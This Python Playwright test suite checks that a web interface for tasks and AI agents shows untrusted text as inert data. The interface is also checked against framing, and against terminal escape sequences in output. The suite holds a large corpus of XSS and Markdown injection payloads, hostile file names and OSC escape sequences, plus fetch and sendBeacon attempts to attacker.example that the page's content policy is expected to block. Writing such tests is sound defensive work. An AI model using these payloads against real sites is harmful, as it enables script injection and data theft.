"""Untrusted text is data (UI-01, UI-02), other pages cannot frame the app (UI-03), and output cannot control terminals (UI-05)."""

import http.server
import re
import threading

import pytest
from playwright.sync_api import expect

from support import browsing, projects

pytestmark = pytest.mark.no_rerun

# One entry per known injection technique. The page must show these characters, and nothing may run.
CORPUS = [
    "<script>canary('script')</script>", "<img src=x onerror=canary('img')>", "<svg onload=canary('svg')>", "<svg><script>canary(1)</script></svg>",
    "<iframe srcdoc=\"<script>parent.canary('frame')</script>\"></iframe>", "<iframe src=javascript:parent.canary(1)></iframe>",
    "<details open ontoggle=canary('toggle')>", "<input autofocus onfocus=canary('focus')>", "<video><source onerror=canary('video')></video>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=canary(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=canary('noscript')>\">", "<form><button formaction=javascript:canary(1)>x</button></form>",
    "<a href=\"javascript:canary('a')\">x</a>", "<base href=//attacker.example/>", "<meta http-equiv=refresh content=\"0;url=//attacker.example\">",
    "<link rel=stylesheet href=//attacker.example/x.css>", "<style>*{background:url(//attacker.example/css)}</style>",
    "<object data=//attacker.example/x></object>", "<embed src=//attacker.example/x>", "<template><img src=x onerror=canary(1)></template>",
    "<x-x id=config><x-x name=url>", "<img name=body><img id=cookie><form id=location>", "\"><img src=x onerror=canary('attribute')>",
    "' onmouseover='canary(1)", "javascript:canary('plain')", "data:text/html,<script>canary(1)</script>", "vbscript:canary(1)",
    "{{constructor.constructor('canary(1)')()}}", "${canary('template')}", "`${canary(1)}`", "<!--<img src=x onerror=canary(1)>-->",
    "]]><img src=x onerror=canary('cdata')>", "&lt;img src=x onerror=canary('entity')&gt;", "\\u003cimg src=x onerror=canary(1)\\u003e",
]
MARKDOWN = [
    "[x](javascript:canary('link'))", "[x](JaVaScRiPt:canary(1))", "[x](java\tscript:canary(1))", "[x](\x01javascript:canary(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=)", "[x](vbscript:canary(1))", "[x](//attacker.example/x)",
    "![x](http://attacker.example/picture.png)", "![x](javascript:canary(1))", "<javascript:canary(1)>", "[x]: javascript:canary(1)\n[x]",
    "[x](http://attacker.example \"onclick=canary(1)\")", "[a](<javascript:canary(1)>)", "```html\n<script>canary(1)</script>\n```",
    "`<img src=x onerror=canary(1)>`", "# <img src=x onerror=canary('heading')>", "| <script>canary(1)</script> |\n|---|\n| <img src=x onerror=canary(1)> |",
    "* <svg onload=canary(1)>", "> <img src=x onerror=canary('quote')>", "[![x](http://attacker.example/a)](http://attacker.example/b)",
    "<http://attacker.example/<script>canary(1)</script>>", "[x](&#106;avascript:canary(1))", "\u202emoc.elpmaxe//:ptth",
]
PAYLOAD = "\n".join(CORPUS)


def settled(page):
    """Waits until anything that could run has run: failed images, loaded frames, timers and microtasks."""
    browsing.settle(page)
    elements = page.evaluate("""() => [...document.querySelectorAll('main script, main iframe, main object, main embed, main base, main meta, ' +
        'main link, main style, main img:not([src^="blob:"]):not([src^="data:image"]), main form[action]')].map(element => element.outerHTML.slice(0, 200))""")
    assert not elements, f"text became elements: {elements}"
    links = page.evaluate("[...document.querySelectorAll('a[href]')].map(link => [link.href, link.rel, link.target])")
    for href, rel, target in links:
        assert href.startswith(("http://", "https://", "blob:")), href
        if "attacker.example" in href:
            assert "noopener" in rel and "noreferrer" in rel and target == "_blank", (href, rel, target)


def test_the_control_an_unguarded_page_runs_the_corpus(chromium):
    """Control: on a page without any policy, the same text as HTML does call the canary."""
    # Without entries that navigate away from the page.
    bare = "\n".join(text for text in CORPUS if "attacker.example" not in text)

    class Bare(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = f"<!doctype html><script>var sung=[];function canary(x){{sung.push(x)}}</script><main>{bare}</main>".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Bare)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    page = chromium.browser.new_page()
    try:
        page.goto(f"http://127.0.0.1:{server.server_address[1]}/", wait_until="commit")
        page.wait_for_function("globalThis.sung?.includes('img') && sung.includes('script')")
    finally:
        page.close()
        server.shutdown()
        server.server_close()


def test_ui_01_titles_and_output_are_text(person, roost, project):
    """In titles, command lines, both output channels, the task list, the sidebar and the palette."""
    page = person.page
    tasks = []
    for start in range(0, len(CORPUS), 12):
        title = " ".join(CORPUS[start:start + 12])[:200]
        tasks.append(roost.accept(project, "printf", "%s\\n", *CORPUS, title=title)["taskId"])
    tasks.append(roost.accept(project, "sh", "-c", 'printf "%s\\n" "$@" >&2; exit 3', "sh", *CORPUS)["taskId"])
    person.go("#/tasks")
    expect(page.get_by_text("<script>canary('script')</script>").first).to_be_visible()
    settled(page)
    for task in tasks:
        roost.wait_for_end(task)
        person.load(f"#/tasks/{task}")
        expect(page.get_by_role("main").get_by_text("canary('img')").first).to_be_visible()
        settled(page)
    person.screenshot("hostile-output")
    page.keyboard.press("Control+k")
    page.keyboard.type("canary")
    settled(page)


HOSTILE_NAMES = [
    "<img src=x onerror=canary('name')>.txt", "\"><svg onload=canary(1)>.js", "a\u202etxt.exe", "line\nbreak.txt", "tab\there.txt", "&lt;b&gt;.md",
    "javascript:canary(1)", "-rf", "*", "größe-日本-🦜.txt", " leading and trailing ", "\x1b[31mred.txt", "#code=x", "%2e%2e%2fetc%2fpasswd",
    "' onmouseover='canary(1).txt", "con\\back\\slash.txt",
]


def turned_attributes(page):
    """Attributes and the page title that contain a right-to-left override."""
    return page.evaluate("""() => [document.title, ...[...document.querySelectorAll('*')].flatMap(element =>
        [...element.attributes].filter(({ name }) => !name.startsWith('data-')).map(({ name, value }) => `${name}=${value}`))].filter(text => text.includes('\\u202e'))""")


def test_ui_01_a_title_cannot_turn_round_what_stands_beside_it(person, roost, project):
    """In the task list, the sidebar, the palette, the tab title, tooltips and the question about cancelling."""
    page = person.page
    turned, shown = "pay \u202e01 rof", "pay ⟨U+202E⟩01 rof"
    accepted = roost.accept(project, "sleep", "1000", title=turned)
    assert roost.api("GET", f"/v1/tasks/{accepted['taskId']}")[1]["title"] == turned, "the control: the daemon keeps it as it was given"
    person.go("#/tasks")
    expect(page.get_by_role("main").get_by_text(shown).first).to_be_visible()
    expect(page.get_by_role("navigation").get_by_text(shown).first).to_be_visible()
    assert "\u202e" not in page.locator("body").inner_text() and not turned_attributes(page)
    page.keyboard.press("Control+k")
    page.keyboard.type("pay")
    expect(page.get_by_role("dialog").get_by_text(shown).first).to_be_visible()
    assert "\u202e" not in page.locator("body").inner_text()
    page.keyboard.press("Escape")
    person.load(f"#/tasks/{accepted['taskId']}")
    expect(page.get_by_role("main").get_by_text(shown).first).to_be_visible()
    assert "\u202e" not in page.locator("body").inner_text() and not turned_attributes(page)
    roost.api("POST", f"/v1/tasks/{accepted['taskId']}/cancel", {})


def test_ui_01_names_and_lines_of_a_diff_are_text(person, roost, project):
    page = person.page
    script = 'for name in "$@"; do printf "%s\\n" "<script>canary(1)</script>" "$name" > "./$name"; done'
    accepted = roost.accept(project, "sh", "-c", script, "sh", *HOSTILE_NAMES, title="names with markup")
    assert roost.wait_for_end(accepted["taskId"])["status"] == "succeeded"
    changes = roost.api("GET", f"/v1/runs/{accepted['run']['id']}/diff")[1]["changes"]
    assert len(changes) == len(HOSTILE_NAMES), "the control: they all are there"
    person.go(f"#/tasks/{accepted['taskId']}/runs/{accepted['run']['id']}/files")
    expect(page.get_by_text("onerror=canary('name')").first).to_be_visible()
    settled(page)
    person.screenshot("hostile-names")
    text = page.get_by_role("main").inner_text()
    assert "\u202e" not in text, "an order that turns letters round is shown, never obeyed"
    assert not turned_attributes(page), "nor in what is read out or shown on hover"
    for name in HOSTILE_NAMES[:2]:
        page.get_by_role("checkbox", name=re.compile(re.escape(name))).uncheck()
    page.get_by_role("button", name=re.compile("^Apply")).first.click()
    question = page.get_by_role("group", name="Files to check")
    expect(question.get_by_text("invisible characters").or_(question.get_by_text("easily confused with")).first).to_be_visible()
    settled(page)
    question.get_by_role("button", name="Apply these too").click()
    wait = page.get_by_text(re.compile("Applied|in your folder")).first
    expect(wait).to_be_visible()
    assert not (project / HOSTILE_NAMES[0]).exists() and (project / HOSTILE_NAMES[2]).exists()
    settled(page)


@pytest.mark.timeout(240)
def test_ui_01_ui_02_what_an_agent_says_and_does_is_text(home_of_claude, ask, make_person):
    """In the answer's Markdown, in thoughts, in names and arguments of tools, and in tool output."""
    project = projects.make_repository(home_of_claude.projects / "hostile")
    person = make_person(home_of_claude).sign_in()
    page = person.page
    output = "printf '%s\\n' " + " ".join("'" + text.replace("'", "'\\''") + "'" for text in CORPUS[:12])
    accepted = ask(
        project, "work on <img src=x onerror=canary('prompt')>",
        {"thinking": PAYLOAD[:1500], "tool": "$shell", "input": {"command": output}},
        {"tool": "$write", "input": {"path": f"{project}/<b>x.md", "content": PAYLOAD}},
        {"text": "\n\n".join([*MARKDOWN, *CORPUS])})
    person.go(f"#/tasks/{accepted['taskId']}")
    assert home_of_claude.wait_for_end(accepted["taskId"], 90)["status"] == "succeeded"
    expect(page.get_by_text("canary('heading')").first).to_be_visible()
    settled(page)
    for summary in page.get_by_role("main").locator("button[aria-expanded=false], summary").all():
        if summary.is_visible():
            summary.click()
    settled(page)
    person.screenshot("hostile-answer", full=True)


def test_ui_01_agents_and_errors_are_text(person, roost, project):
    page = person.page
    status, agent = roost.api("POST", "/v1/agents", {
        "name": "hostile-words", "runtime": "command", "command": ["sh", "-c", PAYLOAD], "instructions": PAYLOAD, "start": False})
    assert status == 201, agent
    for place in ("#/agents", "#/agents/hostile-words", "#/agents/hostile-words/instructions", "#/agents/hostile-words/policy",
                  "#/agents/%3Cimg%20src=x%20onerror=canary(1)%3E", "#/tasks/%3Cimg%20src=x%20onerror=canary(1)%3E",
                  "#/%3Cscript%3Ecanary(1)%3C/script%3E", "#/tasks?search=%3Cimg%20src=x%20onerror=canary(1)%3E", "#/tasks?group=%22%3E%3Csvg"):
        person.allow("404", "400")
        person.load(place)
        expect(page.get_by_role("main").get_by_role("heading").first).to_be_visible()
        settled(page)


def test_ui_05_escape_sequences_move_nothing(person, roost, project):
    page = person.page
    title = page.title()
    accepted = roost.accept(
        project, "printf", "before\\033]0;stolen title\\007\\033]52;c;c3RvbGVu\\007\\033]8;;javascript:canary(1)\\007link\\033]8;;\\007"
        "\\033[2J\\033[31mred\\033[0m\\007\\007\\007after\\n", title="escape sequences")
    roost.wait_for_end(accepted["taskId"])
    person.go(f"#/tasks/{accepted['taskId']}")
    main = page.get_by_role("main")
    expect(main.get_by_text("before").first).to_be_visible()
    expect(main.get_by_text("after").first).to_be_visible()
    text = main.inner_text()
    assert "\x1b" not in text and "\x07" not in text and "stolen title" not in page.title() and title
    assert "U+001B]0;stolen titleU+0007U+001B]52;c;c3RvbGVuU+0007" in text, "written out, and nothing left out"
    settled(page)


def test_ui_05_what_hides_in_a_diff_is_written_out(person, roost, project):
    page = person.page
    lines = {"a.sh": "x='\x1b]0;'; HIDDEN-osc; y='\x07'\n", "b.sh": "fine\rHIDDEN-return \u202eHIDDEN-bidi a\u200bb\u00a0c \U000e0041\n", "c.txt": "z" * 5000 + "HIDDEN-end\n"}
    script = 'for name in a.sh b.sh c.txt; do printf "%s" "$1" > "$name"; shift; done'
    accepted = roost.accept(project, "sh", "-c", script, "sh", *lines.values(), title="hidden text")
    assert roost.wait_for_end(accepted["taskId"])["status"] == "succeeded"
    changes = roost.api("GET", f"/v1/runs/{accepted['run']['id']}/diff")[1]["changes"]
    assert all(text.strip("\n") in change["patch"] for text, change in zip(lines.values(), changes)), "the control: they all are there, as they are"
    person.go(f"#/tasks/{accepted['taskId']}/runs/{accepted['run']['id']}/files")
    expect(page.get_by_text("HIDDEN-osc").first).to_be_visible()
    page.get_by_role("button", name="more characters").click()
    expect(page.get_by_text("HIDDEN-end").first).to_be_attached()
    text = page.get_by_role("region", name="Changed lines").inner_text()
    for letter in "\x1b\x07\r\u202e\u200b\u00a0\U000e0041":
        assert letter not in text, f"{letter!r} reaches the page as it is"
    assert "U+001B]0;'; HIDDEN-osc; y='U+0007'" in text
    assert "fineU+000DHIDDEN-return U+202EHIDDEN-bidi aU+200BbU+00A0c U+E0041" in text
    assert "It contains invisible characters" in text
    settled(page)


def test_a_file_that_runs_later_is_asked_for_by_name_in_the_page(person, roost, project):
    page = person.page
    accepted = roost.accept(project, "sh", "-c", "echo 'export X=1' > .envrc; echo a > a.txt", title="marks")
    assert roost.wait_for_end(accepted["taskId"])["status"] == "succeeded"
    person.go(f"#/tasks/{accepted['taskId']}/runs/{accepted['run']['id']}/files")
    page.get_by_role("button", name="Apply to folder").click()
    question = page.get_by_role("group", name="Files to check")
    expect(question.get_by_text(".envrc")).to_be_visible()
    assert not (project / ".envrc").exists() and not (project / "a.txt").exists()
    question.get_by_role("button", name="Go back").click()
    expect(question).to_have_count(0)
    page.get_by_role("button", name="Apply to folder").click()
    question.get_by_role("button", name="Apply these too").click()
    expect(page.get_by_text(re.compile("Applied")).first).to_be_visible()
    assert (project / ".envrc").exists() and (project / "a.txt").exists()


def test_what_the_policy_takes_only_by_name_is_named_by_the_pages_confirmation(person, roost, project):
    page = person.page
    status, accepted = roost.api("POST", "/v1/tasks", {
        "command": ["sh", "-c", "echo '#!/bin/sh' > tool; chmod +x tool; echo a > a.txt"], "projectPath": str(project), "title": "by name",
        "changesByName": ["executable"]})
    assert status == 202 and roost.wait_for_end(accepted["taskId"])["status"] == "succeeded"
    assert roost.api("POST", f"/v1/runs/{accepted['run']['id']}/apply", {})[0] == 403, "the control: unnamed it is refused"
    person.go(f"#/tasks/{accepted['taskId']}/runs/{accepted['run']['id']}/files")
    page.get_by_role("button", name="Apply to folder").click()
    question = page.get_by_role("group", name="Files to check")
    expect(question.get_by_text("can be run as a program")).to_be_visible()
    question.get_by_role("button", name="Apply these too").click()
    expect(page.get_by_text(re.compile("Applied")).first).to_be_visible()
    assert (project / "tool").exists() and (project / "a.txt").exists()


def test_a_layer_that_changed_under_the_page_is_shown_before_it_is_applied(person, roost, project):
    page = person.page
    accepted = roost.accept(project, "sh", "-c", "echo shown > a.txt", title="changes after the look")
    assert roost.wait_for_end(accepted["taskId"])["status"] == "succeeded"
    person.go(f"#/tasks/{accepted['taskId']}/runs/{accepted['run']['id']}/files")
    expect(page.get_by_text("shown", exact=True).first).to_be_visible()
    (roost.home / "worktrees" / accepted["taskId"] / "upper" / "a.txt").write_text("slipped in\n")
    person.allow("409")
    page.get_by_role("button", name="Apply to folder").click()
    expect(page.get_by_role("alert").get_by_text("are not the ones that were shown")).to_be_visible()
    expect(page.get_by_text("slipped in").first).to_be_visible()
    assert not (project / "a.txt").exists()
    page.get_by_role("button", name="Apply to folder").click()
    expect(page.get_by_text(re.compile("Applied")).first).to_be_visible()
    assert (project / "a.txt").read_text() == "slipped in\n"


def test_ui_03_no_other_page_frames_the_app(roost, chromium, make_person):
    """Neither may another page open the app and keep a window handle, nor the other way round."""
    person = make_person(roost)
    person.allow("frame-ancestors", "Refused to frame", "refused to", "X-Frame-Options", "request to", "Failed to load", "violates")
    framed = f"""<!doctype html><title>around</title><iframe id=app src="{roost.url}/app/"></iframe>
        <iframe id=control srcdoc="<p>the control shows</p>"></iframe>"""
    server = page_server(framed)
    try:
        page = person.page
        page.goto(server.address)
        expect(page.frame_locator("#control").get_by_text("the control shows")).to_be_visible()
        browsing.settle(page)
        assert not [frame for frame in page.frames if frame.url.startswith(f"{roost.url}/app")], [frame.url for frame in page.frames]
        answer = roost.api_server.ask("GET", "/app/")
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
        assert answer.headers["x-frame-options"] == "DENY", "for who does not know the policy"
        assert answer.headers.get("cross-origin-opener-policy") == "same-origin"
    finally:
        server.shutdown()
        server.server_close()


def page_server(html):
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_):
            pass
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    server.address = f"http://127.0.0.1:{server.server_address[1]}/"
    return server


def test_ui_02_the_policy_of_the_page_forbids_what_it_does_not_need(roost):
    """Read from the header of the page itself."""
    answer = roost.api_server.ask("GET", "/app/")
    policy = {words[0]: words[1:] for part in answer.headers["content-security-policy"].split(";") if (words := part.split())}
    assert "'unsafe-inline'" not in str(policy) and "'unsafe-eval'" not in str(policy) and "*" not in str(policy)
    assert policy["default-src"] in (["'none'"], ["'self'"])
    assert policy["require-trusted-types-for"] == ["'script'"]
    assert policy["frame-ancestors"] == ["'none'"] and policy["base-uri"] == ["'none'"] and policy["form-action"] == ["'none'"]
    assert set(policy.get("script-src", policy["default-src"])) <= {"'self'"}
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"


def test_ui_02_the_policy_is_in_force(person):
    """Control: the browser blocks what a stored script would do, on this very page."""
    page = person.page
    person.allow("content policy", "refused by policy", "Content Security Policy", "TrustedHTML", "Trusted Type", "TrustedScript", "unhandled", "violates", "Executing inline",
                 "Loading the", "Refused to", "Applying inline", "Connecting to", "Evaluating a string", "request to http://attacker")
    attempts = page.evaluate("""async () => {
        const tried = {}
        const attempt = async (name, work) => { try { await work(); tried[name] = 'done' } catch (error) { tried[name] = error.name } }
        globalThis.ran = []
        // The driver's own evaluation is exempt from the policy, so what follows runs as the page's own code.
        await new Promise(resolve => setTimeout(resolve))
        await attempt('innerHTML', () => { document.createElement('div').innerHTML = '<img src=x onerror="ran.push(1)">' })
        await attempt('eval', () => (0, eval)('ran.push(1)'))
        await attempt('Function', () => new Function('ran.push(1)')())
        await attempt('document.write', () => document.write('<script>ran.push(1)</' + 'script>'))
        const script = document.createElement('script')
        await attempt('script text', () => { script.textContent = 'ran.push(1)'; document.body.append(script) })
        await attempt('handler', () => {
            const picture = document.createElement('img')
            picture.setAttribute('onerror', 'ran.push(1)'); picture.src = 'x:y'; document.body.append(picture)
        })
        await attempt('fetch', () => fetch('http://attacker.example/', { mode: 'no-cors' }))
        await attempt('beacon', () => { if (!navigator.sendBeacon('http://attacker.example/', 'x')) throw new TypeError() })
        await attempt('worker', () => new Worker('data:text/javascript,postMessage(1)'))
        await new Promise(resolve => setTimeout(resolve, 200))
        return { tried, ran }
    }""")
    assert attempts["ran"] == []
    assert {name for name, end in attempts["tried"].items() if end == "done"} <= {"script text", "beacon"}, attempts
